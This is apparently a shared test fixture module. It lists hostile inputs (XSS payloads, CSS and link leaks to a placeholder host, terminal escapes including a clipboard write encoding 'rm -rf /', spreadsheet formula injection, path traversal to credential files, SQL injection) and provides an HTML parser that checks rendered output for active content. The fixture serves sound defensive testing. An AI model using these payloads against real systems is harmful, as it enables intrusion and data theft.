"""Texts that a hostile peer would send as a name, a file name, a chat message or an error: shared by all tests.

`HOSTILE` holds only texts that UTF-8 can carry; `SURROGATES` holds those it cannot. `active_content` parses HTML with
a real parser and lists what could run, load or escape, so that a test needs no guess about how text was escaped.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    "<img src=x onerror=window.pwned=1>",
    "<IMG SRC=x OnErRoR=window.pwned=1//",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg/onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<body onload=window.pwned=1>",
    "<iframe src=javascript:window.parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1>click</a>",
    '<a href="java&#x09;script:window.pwned=1">click</a>',
    "<a href='data:text/html,<script>parent.pwned=1</script>'>x</a>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1>",
    "<textarea autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<object data=javascript:window.pwned=1>",
    "<embed src=javascript:window.pwned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<style>@import 'http://192.0.2.1/x.css';</style>",
    "<style>*{background:url(http://192.0.2.1/leak)}</style>",
    "<link rel=stylesheet href=http://192.0.2.1/x.css>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<base href=http://192.0.2.1/>",
    "<form action=http://192.0.2.1/><button>OK</button></form>",
    "<template><script>window.pwned=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml-stylesheet href='javascript:window.pwned=1'?>",
    '"><script>window.pwned=1</script>',
    "'><script>window.pwned=1</script>",
    '" onmouseover="window.pwned=1" x="',
    "' onmouseover='window.pwned=1' x='",
    "` onmouseover=`window.pwned=1`",
    "</td></tr></table><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</details></div><img src=x onerror=window.pwned=1>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\u00bcscript\u00bewindow.pwned=1\u00bc/script\u00be",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<x/onclick=window.pwned=1>click",
    "<img\x0bsrc=x\x0bonerror=window.pwned=1>",
    "<img src='http://192.0.2.1/pixel.png'>",
    "<div style='position:fixed;inset:0;background:red'>",
)

TYPESETTING = (
    "$\\href{javascript:window.pwned=1}{x}$",
    "$$\\require{html}\\href{javascript:window.pwned=1}{click}$$",
    "\\(\\unicode{<img src=x onerror=window.pwned=1>}\\)",
    "\\[\\style{position:fixed}{x}\\]",
    "$\\newcommand{\\x}{\\x}\\x$",
    "\\input{/etc/passwd}",
    "$\\frac{",
    "$" * 9,
    "![x](http://192.0.2.1/pixel.png)",
    "[click](javascript:window.pwned=1)",
    "```\n<script>window.pwned=1</script>\n```",
    "# heading\n\n* list",
    "[red]rich markup[/red] [link=http://192.0.2.1]x[/link]",
    "[/]",
)

TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[Hcleared",
    "\x1b]0;title\x07",
    "\x1b]8;;http://192.0.2.1/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31mC1 introducer",
    "\x90q\x9c",
    "safe\roverwritten",
    "back\x08\x08\x08\x08space",
    "bell\x07",
    "nul\x00byte",
    "form\x0cfeed",
    "vertical\x0btab",
    "delete\x7f",
    "next\x85line",
    "two\nlines",
    "carriage\r\nreturn",
    "tab\tulated",
)

BIDI_AND_INVISIBLE = (
    "invoice\u202excod.exe",
    "\u202dleft to right override",
    "\u2066isolate\u2069",
    "\u202a\u202b\u202c embeddings",
    "\u061carabic mark",
    "\u200e\u200fmarks",
    "zero\u200bwidth",
    "word\u2060joiner",
    "\ufeffbyte order mark",
    "soft\u00adhyphen",
    "line\u2028separator\u2029paragraph",
    "tag\U000e0001\U000e0041\U000e007f",
    "\u3164",
    "\u115f\u1160",
    "interlinear\ufff9a\ufffab\ufffb",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 40 + "algo",
    "аdmin",  # noqa: RUF001 - the first letter is Cyrillic
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufdfd" * 5,
    "e\u0301 and \u00e9",
)

FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    " =1+1",
    "\uff1d1+1",
    '"=1+1',
    ";=1+1",
)

PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\windows\\win.ini",
    "\\\\server\\share",
    "file:///etc/passwd",
    "~/.ssh/id_ed25519",
    "CON",
    "nul.txt",
    "aux .txt",
    "trailing. ",
    "name:stream",
    ".",
    "..",
    "",
    " ",
    "a/b",
    "numpy.py",
    "-rf",
    ".bashrc",
    "sitecustomize.py",
)

MISC = (
    "{0.__class__.__init__.__globals__}",
    "{secret}",
    "%s%s%s%n",
    "%(secret)s",
    "${7*7}{{7*7}}<%= 7*7 %>",
    "'; DROP TABLE chunks; --",
    "' OR '1'='1",
    "None",
    "nan",
    "True",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "[object Object]",
    "self",
    "network",
    "x" * 5_000,
    "\U0001f600" * 500,
    "😀 plain é 漢字 עברית عربى",
)

_TAGS = ("img src=x", "svg", "video src=x", "body", "input autofocus", "details open", "marquee", "object data=x")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onloadstart")
_CALLS = (
    "pwned=1", "'pwned=1'", "pwned&#61;1", "self['pwned']=1", "top.pwned=1", "`${pwned=1}`", "(()=>{pwned=1})()",
    "eval('pwned=1')",
)  # fmt: skip
HANDLERS = tuple(f"<{tag} {event}={call}>" for tag in _TAGS for event, call in zip(_EVENTS, _CALLS, strict=True))

_SCHEMES = (
    "javascript:pwned=1", "JaVaScRiPt:pwned=1", "java\tscript:pwned=1", "javascript&colon;pwned=1",
    "\x01javascript:pwned=1", "vbscript:pwned=1", "data:text/html,<script>pwned=1</script>",
    "data:image/svg+xml,<svg onload=pwned=1>",
    "blob:http://127.0.0.1/x", "file:///etc/passwd", "//192.0.2.1/x", "http://192.0.2.1/?leak", "\\\\192.0.2.1\\x",
)  # fmt: skip
_PLACES = ("<a href={0!r}>x</a>", "<iframe src={0!r}>", "<form action={0!r}><input type=submit>", "[x]({0})", "<{0}>")
ADDRESSES = tuple(place.format(scheme) for scheme in _SCHEMES for place in _PLACES)

CONTROLS = tuple(f"con{chr(code)}trol" for code in (*range(0x20), *range(0x7F, 0xA0)))
MARKS = tuple(
    f"ma{chr(code)}rk"
    for code in (0xAD, 0x34F, 0x61C, 0x115F, 0x17B4, 0x180E, *range(0x200B, 0x2010), *range(0x202A, 0x202F),
                 *range(0x2060, 0x2070), 0x2800, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFC,
                 0x1D173, 0xE0001, 0xE0020)
)  # fmt: skip
_UPWARD = ("..", "%2e%2e", "..;", "\uff0e\uff0e", "....", "..\x00", ". .")
_SLASHES = ("/", "\\", "%2f", "\u2215", "//", "/./")
ESCAPES = tuple(f"{up}{slash}{up}{slash}escaped.txt" for up in _UPWARD for slash in _SLASHES)

HOSTILE: tuple[str, ...] = (
    *MARKUP, *TYPESETTING, *TERMINAL, *BIDI_AND_INVISIBLE, *FORMULAS, *PATHS, *MISC,
    *HANDLERS, *ADDRESSES, *CONTROLS, *MARKS, *ESCAPES,
)  # fmt: skip
"""Every text that UTF-8 can carry."""

SURROGATES: tuple[str, ...] = ("\ud800", "lone \udfff surrogate", "\udcff.txt", "\ud83d")
"""Texts that no UTF-8 can carry: a file system may hand them out, a peer's message cannot."""

_HARMLESS_TAGS = frozenset(
    [
        "b",
        "br",
        "caption",
        "code",
        "dd",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "h3",
        "h4",
        "li",
        "meter",
        "ol",
        "p",
        "progress",
        "section",
        "small",
        "span",
        "strong",
        "style",
        "summary",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
_HARMLESS_ATTRIBUTES = frozenset(
    [
        "aria-label",
        "aria-hidden",
        "border",
        "class",
        "colspan",
        "high",
        "id",
        "low",
        "max",
        "min",
        "open",
        "optimum",
        "role",
        "rowspan",
        "scope",
        "style",
        "title",
        "type",
        "value",
    ]
)


_OWN_PICTURE = re.compile(r"data:image/png;base64,[A-Za-z0-9+/=]+")


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.shape: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append(tag + "".join(f"[{name}]" for name, _ in attrs))
        if tag == "img" and _is_own_picture(dict(attrs)):
            return
        if tag not in _HARMLESS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _HARMLESS_ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            if name == "style" and ("url(" in (value or "") or "expression" in (value or "")):
                self.found.append(f"<{tag} style={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        self.shape.append("/" + tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data[:20]}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl[:20]}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data[:20]}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data[:20]}")


def _is_own_picture(attributes: dict[str, str | None]) -> bool:
    """Whether an image is one that the page carries in itself, and nothing else."""
    inside = _OWN_PICTURE.fullmatch(attributes.get("src") or "") is not None
    return inside and set(attributes) == {"src", "alt", "style"} and attributes["style"] == "max-width:100%"


def active_content(html: str) -> list[str]:
    """List every element, attribute, comment or declaration of `html` that is not plainly harmless."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.found


def html_shape(html: str) -> list[str]:
    """The sequence of tags with their attributes' names: the same for every text if text is only ever text."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.shape
